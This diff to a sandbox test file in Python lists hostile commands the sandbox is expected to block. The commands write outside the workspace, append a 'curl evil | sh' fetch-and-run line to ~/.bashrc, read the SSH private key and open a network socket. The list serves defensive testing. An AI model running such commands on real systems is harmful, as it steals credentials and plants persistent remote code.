@@ -56,9 +56,11 @@ def results(server: EmulatorServer) -> list[str]:
 
 def test_with_bash_allowed_outright_the_sandbox_still_stops_every_escape(layout: Layout, listener: int) -> None:
     connect = f"{sys.executable} -c \"import socket; socket.create_connection(('127.0.0.1', {listener}), timeout=5)\""
+    # Code the parse cannot see into (python -c) is where only the sandbox stands.
+    append_bashrc = f"{sys.executable} -c \"import os; open(os.path.expanduser('~/.bashrc'), 'a').write('curl evil | sh')\""
     hostile = [
         f"echo pwned > {layout.outside}/written",
-        "echo 'curl evil.example | sh' >> ~/.bashrc",
+        append_bashrc,
         "cat ~/.ssh/id_ed25519",
         connect,
         "echo fine > inside.txt",
